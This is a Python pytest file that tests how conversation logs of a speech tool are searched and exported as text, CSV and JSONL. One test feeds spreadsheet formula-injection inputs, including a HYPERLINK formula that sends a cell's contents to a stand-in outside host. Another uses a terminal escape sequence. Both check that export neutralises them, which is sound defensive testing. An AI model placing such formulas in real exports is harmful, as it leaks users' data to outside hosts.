"""The conversation of a log: what is found, and files that other programs read."""

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from cortext.cli import run as cortext
from cortext_live.usage.conversation import export, latest, newest_conversation
from cortext_live.usage.log import read_log
from cortext_live.usage.log_entries import Deleted, LoggedUtterance, PartnerTurn
from cortext_live.usage.writer import UsageLog, UtteranceRecord

NOON = datetime(2026, 11, 20, 12, 0, 0, tzinfo=timezone(timedelta(hours=1)))
DAY = "t15.2026.11.20"


def said(text, minutes=0, **more):
    return LoggedUtterance("1", NOON + timedelta(minutes=minutes), DAY, 2.0, text, **more)


def turn(text, minutes=0):
    return PartnerTurn(NOON + timedelta(minutes=minutes), text)


ENTRIES = [
    said("i see you"),
    turn("What do you see?", 1),
    Deleted(NOON),
    said("", 2),
    said("the (.*) straße", 3, correction="The (.*) Straße!"),
    said("old words", 4, correction="New words.", rating="wrong"),
]


def numbers(found):
    return [each.entry for each in found]


def test_deleted_entries_and_silence_are_no_conversation():
    assert numbers(latest(ENTRIES, 10)) == [0, 1, 4, 5]


def test_the_latest_come_in_the_order_of_time_and_go_on_before_an_entry():
    assert numbers(latest(ENTRIES, 2)) == [4, 5]
    assert numbers(latest(ENTRIES, 2, before=4)) == [0, 1]
    assert numbers(latest(ENTRIES, 2, before=0)) == []
    assert numbers(latest(ENTRIES, 2, before=10**9)) == [4, 5]
    assert latest(ENTRIES, 0) == []


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("SEE", [0, 1]),
        ("(.*)", [4]),
        ("STRASSE", [4]),
        (".", [4, 5]),  # a full stop, and no pattern: in corrections alone
        ("new words", [5]),
        ("old  words", [5]),
        ("[", []),
        ("\\", []),
        ("(", [4]),
        (" ", [0, 1, 4, 5]),
    ],
)
def test_a_search_takes_every_character_for_itself(search, expected):
    assert numbers(latest(ENTRIES, 10, search=search)) == expected


def test_a_long_silence_ends_a_conversation():
    entries = [said("yesterday", -60 * 24), turn("an hour ago", -61), said("now"), turn("then", 59)]
    assert numbers(newest_conversation(entries, 50)) == [2, 3]
    assert numbers(newest_conversation(entries, 1)) == [3]
    assert newest_conversation([], 50) == []


def test_a_text_has_a_line_for_each_entry_and_nothing_else():
    entries = latest([turn("two\nlines\x1b[2J"), said("i see", correction="I see.")], 10)
    assert export(entries, "text").decode().splitlines() == [
        "2026-11-20 12:00:00  partner: two lines\\x1b[2J",
        "2026-11-20 12:00:00  participant: I see.",
    ]


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://a.b/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1"]
)
def test_a_spreadsheet_calculates_nothing_of_what_was_said(formula):
    rows = list(csv.reader(io.StringIO(export(latest([turn(formula)], 1), "csv").decode())))
    assert rows[0] == ["entry", "when", "who", "text", "decoded", "rating"]
    assert rows[1][0] == "0"
    assert rows[1][3].startswith("'")


def test_json_lines_are_the_entries_of_the_server():
    found = export(latest(ENTRIES, 10), "jsonl").decode().splitlines()
    assert json.loads(found[-1]) == {
        "entry": 5,
        "who": "participant",
        "when": "2026-11-20T12:04:00.000+01:00",
        "text": "old words",
        "shown": "old words",
        "correction": "New words.",
        "rating": "wrong",
    }
    assert json.loads(found[1]) == {
        "entry": 1,
        "who": "partner",
        "when": "2026-11-20T12:01:00.000+01:00",
        "text": "What do you see?",
        "shown": "What do you see?",
    }


def test_the_command_writes_what_was_asked_for(tmp_path, capfdbinary):
    with UsageLog(tmp_path / "log") as log:
        log.append(UtteranceRecord(1, DAY, 2.0, "i see you", when=NOON))
        log.add_turn("Wer? Ich?", NOON)
    assert cortext(["log", "export", str(tmp_path / "log")]) == 0
    assert capfdbinary.readouterr().out == (
        b"2026-11-20 12:00:00  participant: i see you\n2026-11-20 12:00:00  partner: Wer? Ich?\n"
    )
    out = tmp_path / "found.csv"
    options = ["--format", "csv", "--search", "wer?", "--out", str(out)]
    assert cortext(["log", "export", str(tmp_path / "log"), *options]) == 0
    assert out.read_text().splitlines()[1:] == ["1,2026-11-20T12:00:00+01:00,partner,Wer? Ich?,,"]
    assert out.stat().st_mode & 0o777 == 0o600
    assert cortext(["log", "export", str(tmp_path / "log"), "--format", "xml"]) == 2
    assert b"--format is 'xml'; give one of text, csv, jsonl" in capfdbinary.readouterr().err
    assert cortext(["log", "export", str(tmp_path / "none")]) == 2
    assert len(read_log(tmp_path / "log").entries) == 2
